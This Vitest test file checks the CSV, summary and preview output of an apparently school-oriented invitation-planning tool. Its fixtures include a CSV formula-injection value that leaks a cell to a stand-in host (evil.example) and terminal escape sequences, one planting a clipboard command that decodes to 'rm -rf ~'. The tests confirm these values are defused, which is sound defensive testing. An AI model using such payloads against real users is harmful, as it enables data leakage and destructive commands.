import { describe, expect, it } from 'vitest';
import { planCsv, planJson, previewTable, summaryLines, uncoveredCsv } from '../../src/campaign/output.js';
import type { CampaignPlan } from '../../src/campaign/planner.js';
import { parseCsv } from '../../src/invite/csv.js';
import { readInviteFile } from '../../src/invite/invite-file.js';

const plan: CampaignPlan = {
  invitations: [
    {
      email: 'family@example.org',
      schoolId: 'org-sch-1',
      schoolYearId: 'as-2026-27',
      studentCount: 2,
      guardians: [
        { sourcedId: 'g1', name: '=HYPERLINK("https://evil.example/?"&A1,"x")' },
        { sourcedId: 'g2', name: 'Ann "Nan", Smith\nJr' },
      ],
      students: [
        { sourcedId: 's1', name: 'A' },
        { sourcedId: 's2', name: 'B' },
      ],
    },
    {
      email: 'other@example.org',
      schoolId: 'org-sch-2',
      schoolYearId: 'as-2026-27',
      studentCount: 1,
      guardians: [{ sourcedId: 'g3', name: '' }],
      students: [{ sourcedId: 's3', name: 'C' }],
    },
  ],
  uncovered: [{ sourcedId: 's9', name: '@SUM(1)', reason: 'no guardian linked' }],
  skipped: [{ email: 'x@localhost', schoolId: 'org-sch-1', reason: 'e-mail refused: …' }],
  crowded: [],
  schools: [
    {
      schoolId: 'org-sch-1',
      name: 'Alder',
      inScope: 5,
      invitations: 1,
      students: 2,
      uncovered: 1,
      alreadyInvited: 3,
      refused: 1,
      tooManyChildren: 0,
    },
    {
      schoolId: 'org-sch-2',
      name: 'Birch',
      inScope: 1,
      invitations: 1,
      students: 1,
      uncovered: 0,
      alreadyInvited: 0,
      refused: 0,
      tooManyChildren: 0,
    },
  ],
};

describe('the plan as files', () => {
  it('the CSV is an invitation file invite send --file takes as it is, names and ids in plain cells', async () => {
    const text = planCsv(plan, 'as-2026-27');
    const { records } = await parseCsv(text);
    expect(records.map((r) => r.fields)).toEqual([
      ['email', 'schoolId', 'studentCount', 'schoolYearId', 'guardianNames', 'studentIds'],
      [
        'family@example.org',
        'org-sch-1',
        '2',
        'as-2026-27',
        `'=HYPERLINK("https://evil.example/?"&A1,"x"); Ann "Nan", Smith\nJr`,
        's1 s2',
      ],
      ['other@example.org', 'org-sch-2', '1', 'as-2026-27', 'g3', 's3'],
    ]);
    const read = await readInviteFile(text, { sentByUserId: 'usr-1', scopes: 'fillEnrollment' });
    expect(read.ok && read.rows.map((r) => r.body)).toEqual([
      {
        email: 'family@example.org',
        schoolId: 'org-sch-1',
        scopes: ['fillEnrollment'],
        studentCount: 2,
        schoolYearId: 'as-2026-27',
        sentByUserId: 'usr-1',
      },
      {
        email: 'other@example.org',
        schoolId: 'org-sch-2',
        scopes: ['fillEnrollment'],
        studentCount: 1,
        schoolYearId: 'as-2026-27',
        sentByUserId: 'usr-1',
      },
    ]);
  });

  it('without a school year there is no schoolYearId column', () => {
    expect(planCsv(plan, undefined).split('\r\n')[0]).toBe(
      'email,schoolId,studentCount,guardianNames,studentIds',
    );
  });

  it('the uncovered CSV, a name a spreadsheet would run made inert', async () => {
    const { records } = await parseCsv(uncoveredCsv(plan));
    expect(records.map((r) => r.fields)).toEqual([
      ['sourcedId', 'name', 'reason'],
      ['s9', "'@SUM(1)", 'no guardian linked'],
    ]);
  });

  it('the summary: one line per school, and the totals of --json', () => {
    expect(summaryLines(plan, false)).toEqual([
      'Alder: 5 students in scope: 2 covered by 1 invitation, 2 by invitations already sent, 1 without a guardian e-mail; 3 already invited; 1 e-mail invite send would refuse',
      'Birch: 1 student in scope: 1 covered by 1 invitation, 0 without a guardian e-mail; 0 already invited',
    ]);
    expect(planJson(plan, { alreadyInvited: 'here' }).summary).toMatchObject({
      inScope: 6,
      invitations: 2,
      students: 3,
      uncovered: 1,
      alreadyInvited: 3,
      refusedEmails: 1,
      alreadyInvitedFrom: 'here',
    });
  });

  it('the preview and the summary show what the server sent, never its escape sequences', async () => {
    const hostile: CampaignPlan = {
      ...plan,
      invitations: [
        {
          ...plan.invitations[0]!,
          guardians: [{ sourcedId: 'g1', name: 'Eve\u001b]52;c;cm0gLXJmIH4=\u0007' }],
          students: [{ sourcedId: 's1', name: 'Kid\u001b[2J' }],
        },
      ],
      schools: [{ ...plan.schools[0]!, name: 'Alder\u001b[31m' }],
    };
    const table = await previewTable(hostile, { width: 100, color: false });
    expect(table).not.toContain('\u001b');
    expect(table).not.toContain('\u0007');
    expect(table).toContain('Eve');
    expect(summaryLines(hostile, false).join('\n')).not.toContain('\u001b');
  });
});
